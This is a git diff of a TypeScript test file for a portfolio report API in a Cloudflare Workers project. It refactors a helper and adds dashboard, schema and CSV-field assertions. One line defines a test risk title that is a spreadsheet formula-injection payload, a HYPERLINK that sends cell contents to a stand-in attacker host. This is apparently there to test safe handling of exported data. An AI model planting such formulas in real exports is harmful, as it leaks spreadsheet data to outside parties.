@@ -1,9 +1,15 @@
 import { exports } from 'cloudflare:workers';
 import { parse } from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { type PortfolioResponse, rollUpPortfolio, type WorkspaceRecords } from '../../shared';
+import {
+  buildPortfolioDashboard,
+  type PortfolioResponse,
+  PortfolioResponseSchema,
+  rollUpPortfolio,
+} from '../../shared';
 import { addMember, call, createEmptyWorkspace } from './api';
-import { pullToEnd, riskCreate, TestClient } from './sync-client';
+import { pullRecords } from './portfolio-records';
+import { riskCreate, TestClient } from './sync-client';
 
 const hostileTitle = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
 
@@ -39,35 +45,8 @@ async function seedPortfolio() {
   return { owner, crm, erp };
 }
 
-/** The workspace as a client sees it after a full pull, grouped the way the Durable Object groups it. */
-async function pullRecords(client: TestClient): Promise<WorkspaceRecords> {
-  const rows = new Map<string, Record<string, unknown>>();
-  await pullToEnd(client, rows);
-  const lists: Record<string, unknown[]> = {};
-  for (const [key, value] of rows) {
-    const entity = key.split(':')[0];
-    lists[entity] = [...(lists[entity] ?? []), value];
-  }
-  const list = (entity: string) => (lists[entity] ?? []) as never[];
-  return {
-    templates: list('template'),
-    projects: list('project'),
-    milestones: list('milestone'),
-    planItems: list('planItem'),
-    baselines: list('baseline'),
-    risks: list('risk'),
-    issues: list('issue'),
-    actions: list('action'),
-    statusReports: list('statusReport'),
-    gateReviews: list('gateReview'),
-    persons: list('person'),
-    allocations: list('allocation'),
-    costEntries: list('costEntry'),
-  };
-}
-
 describe('GET /v1/workspaces/:ws/reports/portfolio', () => {
-  it('rolls up every live project as of the server UTC date, as shared rollUpPortfolio does', async () => {
+  it('answers the dashboard of every live project as of the server UTC date, as shared buildPortfolioDashboard does', async () => {
     const { owner, crm, erp } = await seedPortfolio();
     const viewer = await addMember(owner, 'viewer');
     const report = await call<PortfolioResponse>(`/v1/workspaces/${owner.workspace.id}/reports/portfolio`, {
@@ -77,8 +56,15 @@ describe('GET /v1/workspaces/:ws/reports/portfolio', () => {
     const today = new Date().toISOString().slice(0, 10);
     expect(report.json.asOf).toBe(today);
     expect(report.json.projects.map((project) => project.projectId).sort()).toEqual([crm, erp].sort());
-    const expected = rollUpPortfolio(await pullRecords(new TestClient(owner)), today);
+    const records = await pullRecords(new TestClient(owner));
+    const expected = buildPortfolioDashboard(records, today);
     expect(report.json).toEqual(JSON.parse(JSON.stringify(expected)));
+    expect(PortfolioResponseSchema.parse(report.json)).toEqual(report.json);
+    // The roll-up's fields are unchanged: the dashboard extends each project line, it does not rename.
+    const rollUp = JSON.parse(JSON.stringify(rollUpPortfolio(records, today)));
+    expect(report.json.totals).toEqual(rollUp.totals);
+    for (const [index, line] of (rollUp.projects as object[]).entries())
+      expect(report.json.projects[index]).toMatchObject(line);
     const crmLine = report.json.projects.find((project) => project.projectId === crm);
     expect(crmLine?.topRisks[0]).toMatchObject({ title: hostileTitle, score: 25 });
     expect(crmLine?.milestones.next?.title).toBe('Go-live');
@@ -101,6 +87,7 @@ describe('GET /v1/workspaces/:ws/reports/portfolio', () => {
       expect.arrayContaining(['max_mandatory_slip_days', 'next_milestone', 'top_risk', 'risk_exposure']),
     );
     expect(meta.fields).toEqual(expect.arrayContaining(['findings_critical', 'findings_warning', 'findings_info']));
+    expect(meta.fields).toEqual(expect.arrayContaining(['sponsor', 'phase', 'watermelon', 'pv', 'ev', 'ac']));
     const byCode = new Map(data.map((row) => [row.code, row]));
     expect([...byCode.keys()].sort()).toEqual(['CRM', 'ERP']);
     expect(byCode.get('CRM')).toMatchObject({
